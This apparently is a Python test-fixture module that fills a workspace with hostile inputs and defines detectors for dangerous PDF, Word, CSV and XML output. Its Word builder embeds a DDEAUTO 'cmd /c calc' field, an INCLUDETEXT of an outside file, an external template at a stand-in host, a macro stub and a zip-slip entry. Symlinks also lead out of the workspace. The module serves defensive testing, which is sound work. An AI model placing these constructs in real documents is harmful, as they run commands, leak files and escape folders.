"""Hostile texts, a workspace that has them in every field, and detectors of what they want to do.

Each line of `data/vijandige-teksten.jsonl` is a text that would do harm somewhere, or (`deel`,
`keer`) a piece to repeat. `@N@` is the number of the text, `@BUITEN@` and `@OP@` lead to a file
outside the workspace whose words may be in no output.
"""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile
import zlib
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import docx
import pypdf
from lxml import etree
from PIL import Image
from pypdf.generic import ArrayObject, DictionaryObject, IndirectObject, StreamObject

DATA = Path(__file__).parent / "data" / "vijandige-teksten.jsonl"
HOST = "raak.test"
FIRST = 7000
"""The number of the first text: `alert(7000)` is unlike any number that a report has."""

_STORY = """---
titel: {een} L{nummer}
soort: {soort}
datum: 2016-03-14
wijk: Zuid
toestemming: openbaar
kwaliteiten: [{kwaliteit}]
verteller: {een}
keuze: {{door: {een}, reden: {een}}}
deelnemers: {{{een}: {een}}}
initiatieven: [{een}, {een}]
verbergen: [Zqxw, {een}]
media: [{{bestand: foto.png, alt: {een}}}]
{een}: {een}
---

# {plat}

Zij opent nu zelf de post {plat} en belt zelf de gemeente.

- {plat}
1. {plat}

> {plat}

| {plat} | twee |
|---|---|
| {plat} | **{plat}** |

{tekst}

Daarna {plat} ging iedereen naar huis.
"""


@dataclass(frozen=True)
class Lading:
    """A hostile text with its number; `lang` is for the body of a story only."""

    nummer: int
    groep: str
    tekst: str
    lang: bool


@dataclass(frozen=True)
class Buiten:
    """Files outside the workspace, each with words of its own that may be in no output."""

    folder: Path

    def woord(self, plek: str) -> str:
        return f"KANARIE-{plek}-8f3a61"

    @property
    def absoluut(self) -> Path:
        return self.folder / "buiten.txt"

    @property
    def omhoog(self) -> str:
        return "../../buiten.txt"

    def leg_neer(self) -> None:
        self.absoluut.write_text(self.woord("map"), encoding="utf-8")
        for name in ("doel.md", "doel.docx", "doel.csv"):
            text = f"---\ntoestemming: openbaar\n---\n\n{self.woord(name)} staat hier.\n"
            (self.folder / name).write_text(text, encoding="utf-8")
        (self.folder / "apart").mkdir()
        (self.folder / "apart" / "a.md").write_text(self.woord("apart"), encoding="utf-8")
        # A picture is redrawn, so its secret is a colour that nothing else has.
        Image.new("RGB", (40, 40), KLEUR).save(self.folder / "beeld.png")


KLEUR = (13, 201, 87)


def ladingen(buiten: Buiten) -> list[Lading]:
    """All hostile texts, those that repeat written out."""
    found = []
    rows = [json.loads(line) for line in DATA.read_text(encoding="utf-8").splitlines()]
    for nummer, row in enumerate(rows, FIRST):
        text = row.get("tekst") or row["deel"] * row["keer"] + row["einde"]
        for mark, value in (
            ("@N@", str(nummer)),
            ("@BUITEN@", str(buiten.absoluut)),
            ("@OP@", buiten.omhoog),
        ):
            text = text.replace(mark, value)
        found.append(Lading(nummer, row["groep"], text, "deel" in row))
    return found


def leg_werkmap(root: Path, buiten: Buiten) -> list[Lading]:
    """Lay out a workspace with every text, but for the long ones, in every field for text."""
    verhalen = root / "verhalen"
    (verhalen / "cijfers").mkdir(parents=True)
    Image.new("RGB", (4, 4), (200, 200, 200)).save(verhalen / "foto.png")
    short = [lading for lading in ladingen(buiten) if not lading.lang]
    for lading in short:
        name = f"{lading.nummer} {_file_name(lading.tekst)}.md"
        (verhalen / name).write_bytes(_story(lading))
    _tables(verhalen / "cijfers", short)
    (verhalen / "codeboek.yaml").write_text(_codebook(short), encoding="utf-8")
    _links(verhalen, buiten)
    for name, data in word_files(buiten).items():
        (verhalen / name).write_bytes(data)
    return short


def _story(lading: Lading) -> bytes:
    text = lading.tekst
    flat = " ".join(text.split("\n"))
    said = _STORY.format(
        een=json.dumps(text),
        nummer=lading.nummer,
        soort="monitorgesprek" if lading.nummer % 4 == 0 else "verhaal",
        kwaliteit=("zelfregie", "vitaliteit", "leefbare-buurt")[lading.nummer % 3],
        plat=flat,
        tekst=lading.tekst,
    )
    return said.encode("utf-8", "surrogatepass" if "\ud83d" in said else "strict")


def _file_name(text: str) -> str:
    plain = re.sub(r"[/\x00\ud800-\udfff]", "_", text)
    return plain.encode()[:120].decode("utf-8", "ignore")


def _tables(folder: Path, short: list[Lading]) -> None:
    """Names of posts and kinds of work, and one table whose cells are no numbers at all."""
    tables = {
        "begroting.csv": [["post", "groep", "jaar", "soort", "bedrag", "rij_soort", "noot"]],
        "ureninzet.csv": [["periode", "wijk", "specialisme", "uren"]],
        "clienten.csv": [["periode", "wijk", "dienstverlening", "aantal"]],
        "zrm.csv": [["periode", "wijk", "versie", "domein", "begin", "eind", "aantal"]],
        "waarderingen.csv": [["periode", "wijk", "stakeholder", "kwaliteit", "belang", "ervaren"]],
    }
    for lading in short[::4]:
        t = lading.tekst
        tables["begroting.csv"].append([t, t, "2016", "aanvraag", "1000", "deel", t])
        tables["ureninzet.csv"].append(["2016-mei", "Zuid", t, "12"])
        tables["clienten.csv"].append(["2016-mei", "Zuid", t, "40"])
        tables["zrm.csv"].append(["2016-mei", t, t, t, t, t, t])
        tables["waarderingen.csv"].append(["2016-mei", "Zuid", t, t, "4", "3"])
    for name, rows in tables.items():
        file = io.StringIO(newline="")
        csv.writer(file).writerows(rows)
        (folder / name).write_bytes(file.getvalue().encode("utf-8", "replace"))


def _codebook(short: list[Lading]) -> str:
    """The default codebook with a hostile text in every name and explanation."""
    texts = iter(lading.tekst for lading in short if "\ud83d" not in lading.tekst)

    def next_text() -> str:
        return json.dumps(next(texts))

    lines = [f"{key}: {next_text()}" for key in ("naam", "gemeente", "organisatie", "verslag")]
    lines.append("kwaliteiten:")
    for key in ("zelfregie", "vitaliteit", "leefbare-buurt"):
        lines.append(f"  - sleutel: {key}")
        lines += [f"    {name}: {next_text()}" for name in ("naam", "kort", "definitie")]
        lines += [f"    {name}: [{next_text()}]" for name in ("wel", "niet", "cijfers")]
        lines.append(f"    doelen: {{{next_text()}: [{next_text()}]}}")
        lines.append(f'    indicatoren: {{"+": [{next_text()}, zelf de post], "-": []}}')
    lines.append("wijken:")
    for key in ("zuid", "oost"):
        lines += [f"  - sleutel: {key}", f"    naam: {next_text()}", f"    aliassen: [{key}]"]
    lines += ["werksoorten:", f"  - {{sleutel: werk, naam: {next_text()}, groep: {next_text()}}}"]
    lines += ["perioden:", "  - {sleutel: mei, maand: 5, van: 1, tot: 4}"]
    lines += [f"vertellers: [bewoner, {next_text()}]", f"niet-verbergen: [{next_text()}]"]
    return "\n".join(lines) + "\n"


def _links(verhalen: Path, buiten: Buiten) -> None:
    """Links out of the workspace in every place where something is read."""
    for name, target in (
        ("uit.md", "doel.md"),
        ("uit.docx", "doel.docx"),
        ("snelkoppeling.png", "beeld.png"),
        ("cijfers/clienten-uit.csv", "doel.csv"),
        ("map-uit", "apart"),
        ("cijfers-uit", "apart"),
    ):
        (verhalen / name).symlink_to(buiten.folder / target)
    for nummer, where in enumerate(
        ["snelkoppeling.png", "../../beeld.png", str(buiten.folder / "beeld.png")]
    ):
        head = "datum: 2016-03-14\nwijk: Zuid\ntoestemming: openbaar"
        media = f"media: [{{bestand: {json.dumps(where)}, alt: Plaat van buiten}}]"
        text = f"---\n{head}\n{media}\n---\n\nEen verhaal met een plaat, nummer {nummer}.\n"
        (verhalen / f"plaat-{nummer}.md").write_text(text, encoding="utf-8")


RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def word_files(buiten: Buiten) -> dict[str, bytes]:
    """Word documents with macros, fields and parts that lead outside."""
    document = docx.Document()
    for line in ("Toestemming: openbaar", "Datum: 14-03-2016", "Wijk: Zuid"):
        document.add_paragraph(line)
    document.add_paragraph("Zij opent nu zelf de post, staat in Word.")
    saved = io.BytesIO()
    document.save(saved)
    body = (
        f'<w:p><w:r><w:fldChar w:fldCharType="begin"/><w:instrText> INCLUDETEXT "{buiten.absoluut}"'
        ' </w:instrText><w:fldChar w:fldCharType="end"/></w:r></w:p>'
        '<w:p><w:fldSimple w:instr="DDEAUTO cmd /c calc"><w:r><w:t>veld</w:t></w:r>'
        "</w:fldSimple></w:p>"
        '<w:altChunk xmlns:r="' + RELS + '" r:id="rBuiten"/>'
    )
    rels = "".join(
        f'<Relationship Id="{name}" Type="{RELS}/{kind}" Target="{target}"{mode}/>'
        for name, kind, target, mode in (
            ("rBuiten", "aFChunk", f"file://{buiten.absoluut}", ' TargetMode="External"'),
            ("rMal", "attachedTemplate", f"http://{HOST}/x.dotm", ' TargetMode="External"'),
            ("rBeeld", "image", f"http://{HOST}/x.png", ' TargetMode="External"'),
            ("rOle", "oleObject", "embeddings/x.bin", ""),
            ("rOp", "image", "../../../buiten.txt", ""),
        )
    )
    changed = {
        "word/document.xml": ("<w:sectPr", body + "<w:sectPr"),
        "word/_rels/document.xml.rels": ("</Relationships>", rels + "</Relationships>"),
    }
    out = io.BytesIO()
    with zipfile.ZipFile(saved) as old, zipfile.ZipFile(out, "w") as new:
        for name in old.namelist():
            data = old.read(name).decode("utf-8", "surrogateescape")
            data = data.replace(*changed[name], 1) if name in changed else data
            new.writestr(name, data.encode("utf-8", "surrogateescape"))
        new.writestr("word/vbaProject.bin", b"Sub AutoOpen()")
        new.writestr("word/embeddings/x.bin", b"OLE")
        new.writestr("../../buiten-geschreven.txt", b"uit de zip")
    return {"macro.docx": out.getvalue()}


# -- detectors: what of it works in an output -------------------------------------------------


def in_pdf(data: bytes) -> list[str]:
    """What a PDF could do or holds besides its text."""
    wrong: list[str] = []
    bad = {"/JavaScript", "/JS", "/Launch", "/URI", "/EmbeddedFiles", "/RichMedia", "/GoToR",
           "/GoToE", "/SubmitForm", "/ImportData", "/AA", "/AcroForm", "/XFA"}  # fmt: skip
    for item in _pdf_objects(pypdf.PdfReader(io.BytesIO(data))):
        if isinstance(item, DictionaryObject):
            names = {str(key) for key in item} | {str(item.get("/S", "")), str(item.get("/Type"))}
            wrong += sorted(names & (bad | {"/EmbeddedFile", "/Filespec"}))
    return wrong


def _pdf_objects(reader: pypdf.PdfReader) -> Iterator[object]:
    todo: list[object] = [reader.trailer]
    seen: set[int] = set()
    while todo:
        item = todo.pop()
        if isinstance(item, IndirectObject):
            if item.idnum in seen:
                continue
            seen.add(item.idnum)
            item = item.get_object()
        yield item
        if isinstance(item, DictionaryObject):
            todo += [item.raw_get(key) for key in item]
        elif isinstance(item, ArrayObject):
            todo += list(item)


_FIELDS = {"TOC", "PAGE", "PAGEREF", "REF", "SEQ"}
_FIELD = re.compile(rb"<w:(?:instrText|fldSimple)[^>]*?(?:w:instr=\"([^\"]*)\"|>([^<]*)<)")


def in_word(data: bytes) -> list[str]:
    """What a Word document refers to, embeds or would run."""
    wrong: list[str] = []
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            part = archive.read(name)
            if re.search(r"vba|embeddings|activeX|\.bin$|afchunk", name):
                wrong.append(name)
            if name.endswith((".xml", ".rels")):
                root = etree.fromstring(part, etree.XMLParser(resolve_entities=False))
                if root.getroottree().docinfo.doctype:
                    wrong.append(f"doctype in {name}")
                wrong += [
                    f"{name}: {found.get('Target')}"
                    for found in root.iter("{*}Relationship")
                    if found.get("TargetMode") == "External" or ".." in found.get("Target", "")
                ]
                wrong += [f"{name}: altChunk" for _ in root.iter("{*}altChunk")]
            fields = [(a or b).decode().split()[:1] for a, b in _FIELD.findall(part)]
            wrong += [f[0] for f in fields if f and f[0] not in _FIELDS]
    return wrong


def in_csv(data: bytes) -> list[str]:
    """The cells that a spreadsheet takes for a formula."""
    rows = csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""))
    starts = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
    cells = [cell for row in rows for cell in row]
    visible = [re.sub("^[\u200b-\u200f\ufeff\u2060\u00ad]+", "", cell) for cell in cells]
    return [cell for cell in visible if cell.startswith(starts)]


def in_xml(data: bytes) -> list[str]:
    """What is wrong with XML that somebody else will read."""
    try:
        root = etree.fromstring(data, etree.XMLParser(resolve_entities=False, no_network=True))
    except etree.XMLSyntaxError as error:
        return [str(error)]
    wrong = ["doctype"] if root.getroottree().docinfo.doctype else []
    kinds = (etree.Entity, etree.ProcessingInstruction)
    return wrong + [
        str(one) for one in root.iter() if one.tag in kinds or "XInclude" in str(one.tag)
    ]


def unpacked(name: str, data: bytes) -> Iterator[tuple[str, bytes]]:
    """The bytes of a file, and of all that is packed in it."""
    yield name, data
    if data.startswith(b"PK\x03\x04"):
        with zipfile.ZipFile(io.BytesIO(data)) as archive:
            for inner in archive.namelist():
                yield from unpacked(f"{name}/{inner}", archive.read(inner))
    elif data.startswith(b"%PDF"):
        reader = pypdf.PdfReader(io.BytesIO(data))
        for number, item in enumerate(_pdf_objects(reader)):
            if isinstance(item, StreamObject):
                yield f"{name}/{number}", item.get_data()
        yield f"{name}/tekst", "".join(p.extract_text() for p in reader.pages).encode()
    for number, part in enumerate(re.findall(rb"base64,([A-Za-z0-9+/=]{40,})", data)):
        import base64

        yield f"{name}/data{number}", base64.b64decode(part)


def holds(data: bytes, word: str) -> bool:
    """Whether bytes hold a word, in a usual encoding or deflated."""
    forms = [word.encode(form) for form in ("utf-8", "utf-16-le", "utf-16-be")]
    if any(form in data for form in forms):
        return True
    try:
        return any(form in zlib.decompress(data) for form in forms)
    except zlib.error:
        return False
